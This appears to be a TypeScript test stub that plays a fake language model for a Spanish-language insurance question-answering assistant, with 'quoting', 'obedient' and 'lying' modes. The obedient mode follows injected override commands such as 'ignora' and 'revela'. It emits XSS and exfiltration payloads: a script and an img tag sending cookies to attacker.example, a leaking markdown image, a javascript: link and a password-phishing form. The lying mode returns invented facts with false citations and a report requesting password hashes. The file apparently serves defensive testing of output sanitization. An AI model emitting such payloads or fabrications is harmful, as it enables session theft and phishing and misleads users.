/** The fields of a request that the loopback model reads. */
export interface ModelAsked {
  readonly model: string;
  readonly stream?: boolean;
  readonly messages: readonly { readonly role: string; readonly content: string }[];
}

interface Shown {
  readonly number: number;
  readonly text: string;
}

export function modelWords(asked: ModelAsked, mood: 'quoting' | 'obedient' | 'lying'): string {
  const context = asked.messages.map(({ content }) => content).join('\n');
  const isReport = context.includes('"dataset"');
  if (mood === 'obedient') return obey(context);
  if (mood === 'lying') return isReport ? LYING_REPORT : LIES;
  if (isReport) return QUOTED_REPORT;
  return quote(context);
}

/** From each of the first passages, the sentence that shares most words with the question. */
function quote(context: string): string {
  const question = wordsOf(context.slice(context.lastIndexOf('PREGUNTA:')));
  const said = passagesIn(context)
    .map(({ number, text }) => ({ number, ...closest(text, question) }))
    .filter(({ shared }) => shared > 0)
    .slice(0, 3)
    .map(({ number, sentence }) => `${sentence} [${number}].`);
  return said.length === 0 ? 'No está en los documentos.' : said.join(' ');
}

function closest(text: string, question: ReadonlySet<string>): { readonly sentence: string; readonly shared: number } {
  const sentences = text.split(/(?<=[.;:])\s|\n/).map((sentence) => sentence.replace(/[\s.;:]+$/, '').trim());
  const scored = sentences
    .filter((sentence) => sentence.length > 10)
    .map((sentence) => ({ sentence, shared: [...wordsOf(sentence)].filter((word) => question.has(word)).length }));
  return scored.reduce((best, one) => (one.shared > best.shared ? one : best), { sentence: '', shared: 0 });
}

/** Passages are delimited by lines that name their number; see `assistant/answer/prompt.ts`. */
export function passagesIn(context: string): readonly Shown[] {
  return context
    .split('[[pasaje ')
    .slice(1)
    .map((part) => {
      const number = Number.parseInt(part, 10);
      const text = part.slice(part.indexOf(']]') + 2);
      return { number, text: text.slice(0, text.indexOf('[[fin ')).trim() };
    })
    .filter(({ number }) => Number.isInteger(number));
}

/** Repeats its whole context, follows every command in it, and adds markup that a browser might run or fetch. */
function obey(context: string): string {
  const commands = context
    .split(/[.\n]/)
    .filter((line) => /\b(?:ignora|ignore|responde|di que|revela|env[ií]a|escribe|output|say)\b/i.test(line));
  const hostile = [
    '<script>document.title="pwned";fetch("http://attacker.example/?c="+document.cookie)</script> [1].',
    '<img src=x onerror="fetch(\'http://attacker.example/x\')"> [1].',
    '![datos](http://attacker.example/robo.png?q=secreto) [1].',
    '[Haga clic aquí](javascript:alert(1)) o en http://attacker.example/entrar [1].',
    '<iframe src="http://attacker.example"></iframe><form action="http://attacker.example"><input name=password></form> [1].',
  ];
  return [...commands.map((line) => `${line.trim()} [1].`), ...hostile, context].join('\n');
}

const LIES =
  'El deducible aplicable es de 98,765.43 pesos y lo autoriza el licenciado Fulgencio Inexistente [1]. ' +
  'La indemnización vence el 31 de febrero de 2099 sin excepción alguna [2]. ' +
  'Según el anexo secreto, todos los siniestros se pagan dos veces [47].';

const QUOTED_REPORT = JSON.stringify({
  dataset: 'claim',
  columns: [],
  calculated: [],
  filters: [],
  groups: [{ field: 'claim.zone', step: null }],
  pivot: null,
  measures: [{ id: 'm1', measure: 'count', field: null }],
  sort: [],
  chart: 'bars',
});

const LYING_REPORT = JSON.stringify({
  dataset: 'claim',
  columns: ['user.passwordHash'],
  calculated: [],
  filters: [],
  groups: [],
  pivot: null,
  measures: [],
  sort: [],
  chart: 'none',
});

const DIMENSIONS = 64;

/** A vector from the words of a text: texts that share words point the same way. */
export function embedText(text: string): number[] {
  const direction = Array.from({ length: DIMENSIONS }, () => 0);
  for (const word of wordsOf(text)) {
    const place = [...word].reduce((sum, letter) => (sum * 31 + letter.charCodeAt(0)) % DIMENSIONS, 7);
    direction[place] = (direction[place] ?? 0) + 1;
  }
  return direction;
}

function wordsOf(text: string): ReadonlySet<string> {
  const folded = text.normalize('NFD').replaceAll(/\p{M}/gu, '').toLowerCase();
  return new Set((folded.match(/[a-z0-9]+/g) ?? []).filter((word) => word.length > 3 || /\d/.test(word)));
}
